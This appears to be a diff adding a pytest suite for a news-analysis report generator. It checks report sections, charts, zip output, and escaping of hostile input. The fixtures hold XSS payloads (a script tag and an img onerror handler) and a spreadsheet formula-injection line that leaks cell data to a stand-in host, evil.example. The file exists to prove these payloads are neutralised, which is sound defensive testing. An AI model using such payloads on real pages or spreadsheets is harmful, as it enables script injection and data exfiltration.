@@ -1,0 +1,95 @@
+"""The batch report: every section, every file, and hostile text that stays text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from analysis import report, sections
+from analysis.corpus import load_files
+from analysis.text import build
+from analysis.workspace import Workspace
+
+HOSTILE_TEXT = (
+    "El ministro dijo que al menos 12 personas murieron en el ataque. "
+    '<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2"> '
+    "Otra frase </script> con la captura del alcalde y el secuestro de 3 periodistas."
+)
+HOSTILE_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def seeds_files(seeds) -> dict[str, bytes]:
+    workspace = Workspace(seeds)
+    return report.render(sections.build_sections(workspace, build(seeds.articles)))
+
+
+@pytest.fixture(scope="module")
+def hostile_files() -> dict[str, bytes]:
+    corpus = load_files(
+        [
+            ("evil.json", json.dumps({"text": HOSTILE_TEXT, "source": HOSTILE_SOURCE, "title": "<b>x</b>"}).encode()),
+            (
+                "calm.txt",
+                "El gobierno confirmó la captura del alcalde y la muerte de 10 personas en el ataque.".encode(),
+            ),
+        ]
+    )
+    return report.render(sections.build_sections(Workspace(corpus), build(corpus.articles)), images=False)
+
+
+def test_seeds_report_has_every_section_and_file(seeds_files):
+    page = seeds_files["report.html"].decode()
+    for key, title in [("corpus", "Corpus"), ("terms", "Framing terms"), ("figures", "Casualty figures")]:
+        assert f"<section id='{key}'><h2>{title}</h2>" in page
+    assert page.count("<script") == page.count("</script>")
+    assert not re.search(r"<script[^>]+src=", page)  # plotly.js inlined once: opens offline
+    assert page.count("Plotly.newPlot") == sum(1 for f in seeds_files if f.endswith(".png"))
+    charts = {f for f in seeds_files if f.startswith("charts/")}
+    assert {f.rsplit(".", 1)[0] for f in charts if f.endswith(".png")} == {
+        f.rsplit(".", 1)[0] for f in charts if f.endswith(".svg")
+    }
+    assert all(seeds_files[f].startswith(b"\x89PNG") for f in charts if f.endswith(".png"))
+    results = json.loads(seeds_files["report.json"])
+    assert set(results) == {"corpus", "terms", "figures"}
+    statuses = sorted(a["status"] for a in results["figures"]["agreement"])
+    assert statuses == ["consistent", "consistent", "single-source"]
+
+
+def test_hostile_text_never_becomes_markup(hostile_files):
+    page = hostile_files["report.html"].decode()
+    # The only script elements are plotly's: none comes from the article.
+    scripts = re.findall(r"<script[^>]*>", page)
+    assert all(s.startswith('<script type="text/javascript"') or s == "<script>" for s in scripts)
+    assert "<script>window.pwned" not in page and "<img src=x" not in page
+    assert "&lt;script&gt;window.pwned" in page or "\\u003cscript\\u003ewindow.pwned" in page
+    assert page.count("<script") == page.count("</script>")
+
+
+def test_hostile_label_is_neutralised_in_every_csv(hostile_files):
+    found = 0
+    for name, data in hostile_files.items():
+        if not name.endswith(".csv"):
+            continue
+        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@")) or cell.lstrip("-").replace(".", "").isdigit(), (
+                    name,
+                    cell,
+                )
+                found += HOSTILE_SOURCE in cell
+    assert found  # the label is kept, as text
+
+
+def test_zip_and_dir_hold_the_same_files(hostile_files, tmp_path: Path):
+    with zipfile.ZipFile(io.BytesIO(report.zip_bytes(hostile_files))) as archive:
+        names = {n.removeprefix("contraste-report/") for n in archive.namelist()}
+    assert names == set(hostile_files)
+    html = report.write_dir(hostile_files, tmp_path / "out")
+    assert html.read_bytes() == hostile_files["report.html"]
